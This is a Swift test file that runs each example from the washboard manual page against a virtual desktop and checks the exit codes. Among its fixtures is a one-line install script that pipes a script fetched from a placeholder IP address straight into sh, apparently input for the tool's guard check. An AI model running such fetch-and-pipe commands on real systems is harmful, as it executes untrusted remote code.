import TestProcesses
import Testing
import X11TestPeer

/// Laws of the examples in washboard(1): each runs beside a service, in the order of the page.
@Suite(.enabled(if: Desktop.isPossible, Desktop.reason))
struct ManualExampleTests {
  /// The example that needs a user manager; tests of the unit run it.
  private static let elsewhere = ["systemctl --user enable --now washboard"]

  private static let files = [
    "page.html": "<h1>News</h1><p style='color:red'>Some <b>bold</b> text",
    "install.sh": "curl -fsSL http://203.0.113.9/i.sh | sh\n",
  ]

  private static var examples: [String] {
    let page = String(decoding: contents(of: "\(Product.root)/Sources/washboard/Manual/washboard.1"), as: UTF8.self)
    let section = page.split(separator: "\n").drop { $0 != ".Sh EXAMPLES" }.dropFirst().prefix { !$0.hasPrefix(".Sh ") }
    return section.filter { $0.hasPrefix(".Dl ") }.map { String($0.dropFirst(4)) }
  }

  @Test func `every example of the manual runs`() throws {
    let examples = Self.examples
    #expect(examples.count > 8)
    let desktop = try Desktop()
    let folder = try TemporaryFolder()
    for (name, text) in Self.files { try folder.write(text, to: name) }
    OfferedContent.note(Array("<p>Some <b>bold</b> text".utf8))
    #expect(try desktop.run(["copy", "--from", "html"], input: Array("<p>Some <b>bold</b> text".utf8)).exitCode == 0)
    for example in examples where !Self.elsewhere.contains(example) {
      if example.hasSuffix(" --follow") {
        let follower = try desktop.start(example.split(separator: " ").dropFirst().map(String.init))
        #expect(try wait(limit: 10_000) { follower.outputText.contains("cleaned") }, "\(example)")
        continue
      }
      let result = try ChildProcess.run(
        "/bin/sh",
        ["-c", #"washboard() { "$PROGRAM" "$@"; }; cd "$1" && "# + example, "sh", folder.path],
        environment: [
          "PROGRAM": Product.washboard, "DISPLAY": desktop.server.display, "XDG_RUNTIME_DIR": desktop.folder.path,
          "XDG_CONFIG_HOME": folder.path,
        ])
      // The guard answers by its exit code.
      let expected = example.contains("guard test") ? [0, 10, 11] : [0]
      #expect(expected.contains(result.exitCode), "\(example): \(result.exitCode) \(result.errorText)")
    }
  }
}
